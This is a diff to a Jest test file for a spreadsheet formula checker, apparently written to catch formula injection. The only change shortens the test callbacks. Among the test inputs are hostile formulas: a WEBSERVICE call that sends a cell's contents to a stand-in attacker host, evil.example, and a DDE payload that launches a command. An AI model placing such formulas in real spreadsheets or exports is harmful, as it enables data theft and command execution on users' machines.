@@ -9,9 +9,7 @@ test.each([
   '_xlfn.LET(_xlpm.x,A1,_xlpm.f(_xlpm.x))',
   "Table1[it''s (x)]",
   'A1',
-])('%s only calculates', (formula) => {
-  expect(isPlainFormula(formula)).toBe(true)
-})
+])('%s only calculates', (formula) => expect(isPlainFormula(formula)).toBe(true))
 
 test.each([
   '_xlfn.WEBSERVICE("https://evil.example/?"&A1)',
@@ -23,9 +21,7 @@ test.each([
   '_xlfn.NEXT.YEARS.FUNCTION(A1)',
   "cmd|'/c calc'!A0",
   "T[a'b]&_xlfn.WEBSERVICE(A1)&T[c'd]",
-])('%s may do more', (formula) => {
-  expect(isPlainFormula(formula)).toBe(false)
-})
+])('%s may do more', (formula) => expect(isPlainFormula(formula)).toBe(false))
 
 test.each(['RW300101', '5', '-5', '+966 (11) 234-5678', '- أبيض، 24', '@ site', '="0012"', "'=1+1", '', '3-4 (x)'])(
   'the cell %s is text',
